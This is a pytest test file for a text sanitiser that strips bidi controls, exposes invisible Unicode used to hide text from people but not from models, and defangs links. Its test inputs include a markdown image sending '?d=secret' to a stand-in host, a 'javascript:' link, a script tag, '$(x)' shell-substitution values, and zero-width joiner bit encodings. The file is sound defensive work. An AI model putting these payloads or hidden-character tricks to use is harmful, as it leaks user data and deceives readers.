"""Recalled text is data: no letter of it may steer what shows it."""

# ruff: noqa: RUF001 - other scripts than ours are what is tested

from __future__ import annotations

import json
import re
import shlex
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helix.doors.documents import as_json
from helix.doors.neutral import neutral, one_line, shell_word

ANY_TEXT = st.text(st.characters())
STEERING = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}


def steers(letter: str) -> bool:
    return (
        unicodedata.category(letter) in {"Cc", "Cs", "Zl", "Zp"}
        or unicodedata.bidirectional(letter) in STEERING
    ) and letter not in "\n\t"


@given(ANY_TEXT)
def test_nothing_that_steers_survives(text):
    assert not [letter for letter in neutral(text) if steers(letter)]


@given(ANY_TEXT)
def test_one_line_is_one_line(text):
    assert len(one_line(text).splitlines()) <= 1


@given(ANY_TEXT)
def test_a_word_of_a_command_is_one_line_and_steers_nothing(text):
    word = shell_word(text)
    assert len(word.splitlines()) <= 1
    assert neutral(word) == word


@pytest.mark.parametrize("path", ["plain.md", "my notes", "two  blanks", "it's", "$(x)", "`x`"])
def test_a_word_of_a_command_is_what_was_meant(path):
    assert shlex.split(shell_word(path)) == [path]


@given(ANY_TEXT)
def test_neutral_text_stays_as_it_is(text):
    assert neutral(neutral(text)) == neutral(text)


@given(ANY_TEXT)
def test_a_document_says_exactly_what_was_kept_and_steers_nothing(text):
    written = as_json({"content": text}).decode()
    assert json.loads(written) == {"content": text}
    assert not [letter for letter in written if steers(letter)]


def test_languages_are_left_alone():
    for text in (
        "grüße",
        "日本語",
        "שלום",
        "مرحبا",
        "👩\u200d💻",
        "❤\ufe0f ☎\ufe0e",
        "नमस्\u200cते",
        "tab\tnew\nline",
    ):
        assert neutral(text) == text


@pytest.mark.parametrize(
    "hidden",
    [
        "\u00ad",  # soft hyphen
        "\u034f\u180e\u3164\uffa0\u115f\u17b4",  # letters without a shape
        "\U000e0041\U000e0042",  # tags
        "\U000e0100\U000e01ef",  # selectors of variants, two hundred of them: a whole alphabet
        "\ufe00\ufe0e\ufe01",  # a run of the other sixteen
    ],
)
def test_nothing_is_hidden_between_letters(hidden):
    """Words that a person cannot see and a model can read become visible."""
    shown = neutral(f"ok{hidden}ok")
    assert not set(hidden[1:] or hidden) & set(shown)
    assert "\\" in shown
    assert neutral(shown) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://e.example/?d=secret)", "![x] (https://e.example/?d=secret)"),
        ("[see](//e.example/a)", "[see] (//e.example/a)"),
        ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
        ("<img src=https://e.example/a>", "< img src=https://e.example/a>"),
        ("<SCRIPT>", "< SCRIPT>"),
        ("handlers[0](event) and a < b", "handlers[0](event) and a < b"),
        ("Map<String, List<Image>>", "Map<String, List<Image>>"),
        ("see [the docs](docs/time.md)", "see [the docs](docs/time.md)"),
    ],
)
def test_nothing_is_loaded_by_showing_it(text, shown):
    """Pictures and links become words; code and relative links stay as they are."""
    assert neutral(text) == shown
    assert neutral(shown) == shown


@pytest.mark.parametrize(
    "text",
    [
        "👨\u200d👩\u200d👧\u200d👦",  # a family
        "👩🏽\u200d💻 🏳\ufe0f\u200d🌈 ❤\ufe0f\u200d🔥 🏃🏿\u200d♀\ufe0f\u200d➡\ufe0f 🐦\u200d⬛",
        "می\u200cخواهم کتاب\u200cها را به\u200cروزرسانی کنم",  # Persian
        "API\u200cها و commit\u200cها",
        "नमस्\u200cते क्\u200dष र्\u200dय",  # Hindi, Marathi
        "ශ්\u200dරී ලංකා",  # Sinhala
        "র\u200d্যাব",  # Bengali
        "അവന്\u200d പറഞ്ഞു",  # Malayalam, whose older spelling ends words with one
        "ದೇವರ್\u200cಗೆ నాన్\u200cస్టాప్",  # Kannada, Telugu
        "ភាសា\u200cខ្មែរ မြန်မာ\u200cစာ",  # Khmer, Myanmar
        "ᠮᠣᠩ\u200dᠭᠣᠯ",  # Mongolian
    ],
)
def test_joiners_stay_where_a_script_needs_them(text):
    """One between two emoji, or within a word that is drawn otherwise without it."""
    assert neutral(text) == text


BITS = "".join("\u200d" if bit == "1" else "\u200c" for bit in f"{ord('x'):08b}")


@pytest.mark.parametrize(
    "text",
    [
        f"The build uses pnpm.{BITS}",
        "p\u200dn\u200cp\u200dm",  # one after each letter of a script that needs none
        f"👩{BITS}💻",
        f"می{BITS}خواهم",
        "می\u200c\u200dخواهم",
        "👩\u200c💻",  # it parts letters; emoji need no parting
        "\u200dabc\u200c",
        "👩\u200dabc",
        "می\u200cabc",
        "\u061c\u200d\u0645",
        "👩\ufe0f\ufe0f\u200d💻",
        "അവന്\u200d\u200d",
    ],
)
def test_joiners_spell_nothing_unseen(text):
    """Rows of them, and those that join nothing, become visible."""
    shown = neutral(text)
    assert "\\u200" in shown
    assert not set("\u200c\u200d") & set(shown)
    assert neutral(shown) == shown


JOINED = st.text(
    st.sampled_from("\u200c\u200d\ufe0f\ufe0e👩🏽💻\u2640می\u0d4dनa \u061c\u180b\u1820\u200b")
)


@given(JOINED)
def test_joined_text_stays_as_it_is_shown(text):
    shown = neutral(text)
    assert neutral(shown) == shown
    assert not re.search("[\u200c\u200d]{2}", shown)
